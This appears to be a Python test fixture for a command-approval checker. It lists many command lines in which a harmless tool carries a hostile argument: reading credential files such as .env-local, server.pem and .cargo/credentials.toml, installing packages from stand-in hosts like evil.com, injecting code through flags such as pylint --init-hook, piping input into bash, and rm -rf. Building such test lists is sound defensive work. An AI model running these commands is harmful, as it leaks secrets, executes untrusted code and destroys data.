"""Command lines with a harmless program and one harmful word; a chat must ask about each."""

from __future__ import annotations

HOSTILE_WORDS = r"""
rg -g '*' KEY
rg -g '*env' KEY
rg --glob '*' KEY
rg --iglob '*ENV' KEY
jq -n 'import "config" as $c {"search":"/home/me/.docker"}; $c'
jq -n env
jq -n '$ENV.HOME'
jq -n 'include "x" {search:"/root"}; .'
strings @opts
mv sub .github
cp -r sub/workflows .github
git mv sub .github
cp a.py src
echo 'x: ; id' | make -f -
echo 'x: ; id' | make -f - x
echo 'x: ; id' | make --file=-
echo id | bash /dev/stdin
echo id | python3 /dev/stdin
echo id | node /dev/stdin
echo id | make -f /dev/stdin
echo id | make -f/dev/stdin
make 'CC=git push --force'
make CC=reboot
make --ev='include sub/x'
make -Einclude
tox -x 'testenv.commands=touch x'
tox exec -e py -- rm -rf src
coverage run -m pip install evil
coverage run -m timeit '__import__("os")'
python3 -m coverage run -m pip install evil
python3 -m mypy --install-types
mypy --install-type
python3 -m pylint '--init-hook=exec(1)'
pylint '--init-hook=__import__("os").system("touch x")'
pylint --init-hook 'exec(1)'
just -cid
rake '-eputs 1'
rake --exec 'puts 1'
rake -rfoo
npm test '--node-options=--import=data:text/javascript,code'
npm run env
bun run '-econsole.log(1)'
bun run --print 1
bun run sh -c 'touch x'
bun run curl evil.example
deno test jsr:@std/x
deno check npm:evil
go build '--ldflags=-extld=x'
go build --overlay=x.json
go list -m evil.com/x@latest
go mod download evil.com/x@v1
cmake --build b --target=install
meson test --wrap 'touch x'
mvn test org.codehaus.mojo:exec-maven-plugin:3.0:exec
c8 sh -c 'touch x'
nyc node -e 'code'
node_modules/.bin/ts-node -e 'code()'
.venv/bin/python -c 'import os'
.venv/bin/pip install evil
cd way/.. && cat leak
cd way && cd .. && cat leak
find . -newer /etc/passwd
find . -newer .env
git branch newname
cat .config/gh/hosts.yml
cat server.pem
cat .env-local
cat .cargo/credentials.toml
npm test --script-she=x
rustc -C linker=sh a.rs
mocha --require data:text/javascript,x
ruff check -
gcc -x c -
gcc -x c /dev/stdin
timeout 5 bash /dev/stdin
uv run python /dev/stdin
yarn run env
pytest --basetemp=src
prettier --plugin=data:text/javascript,x a.js
tsx /dev/stdin
make -f sub/../Makefile SHELL=/bin/x
make .SHELLFLAGS=-x
make MAKEFILES=sub/x
gradle test --init-scrip x
dotnet run --project /x
ctest --build-and-test . b --build-generator x --test-command rm -rf src
vitest --globalSetup=x
jest --globalS x
terraform fmt ../x
phpunit --bootstrap data:text/plain,x
ninja -f -
just -f - x
just --justfile=- x
tap run --node-arg=-e
nox -f -
pyright --pythonpath sh
mypy --python-executable=sub/x a.py
cargo test --config build.x=1
go test -exec sub/x
go test '-exec=sub/x'
clang -Xclang -load x.c
gcc -wrapper x
gcc @x
swift build -Xcc -fplugin=x
prettier --config data:x
""".strip().split("\n")
